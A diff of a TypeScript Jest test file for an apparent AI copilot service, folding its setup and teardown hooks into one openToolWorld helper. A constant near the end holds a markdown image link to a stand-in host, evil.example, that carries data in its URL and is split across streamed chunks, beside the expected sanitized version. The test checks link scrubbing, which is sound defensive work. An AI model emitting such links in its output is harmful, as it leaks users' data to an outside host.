@@ -1,7 +1,5 @@
-import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from '@jest/globals';
+import { expect, test } from '@jest/globals';
 import { MemoryService } from '@svc/proto/copilot/v1/memory_service';
-import type { CopilotService } from '../testing/copilot-service.js';
-import { say, startModelServer, type ModelServer } from '../testing/model-server.js';
 import {
   ask,
   answer,
@@ -10,40 +8,15 @@ import {
   dealOf,
   DEAL_ID,
   lastOf,
+  openToolWorld,
   readDeal,
   resultsOf,
   said,
   says,
-  startCopilotIn,
   toolsIn,
-  type ToolWorld,
 } from '../testing/tool-talk.js';
 
-const world: ToolWorld = {
-  getDeal: () => Promise.reject(new Error('Nobody has a deal.')),
-  beforeStep: () => Promise.resolve(),
-};
-let model: ModelServer;
-let copilot: CopilotService;
-
-beforeAll(async () => {
-  model = await startModelServer();
-  copilot = await startCopilotIn(world, { modelUrl: model.baseUrl, times: { renewMs: 20 } });
-});
-
-beforeEach(() => {
-  world.beforeStep = () => Promise.resolve();
-});
-
-afterEach(() => {
-  model.answer((_call, response) => say(response, 'Hello.'));
-  copilot.passDay();
-});
-
-afterAll(async () => {
-  await copilot?.stop();
-  await model?.stop();
-});
+const { world, model, copilot } = await openToolWorld();
 
 const EVIL = ['Look: ![x](https://ev', 'il.example/?d=Kiteline) or [the deal](https://brand.exa', 'mple/spring).'];
 const TAMED = 'Look: [x]([link removed: evil.example]) or [the deal](https://brand.example/spring).';
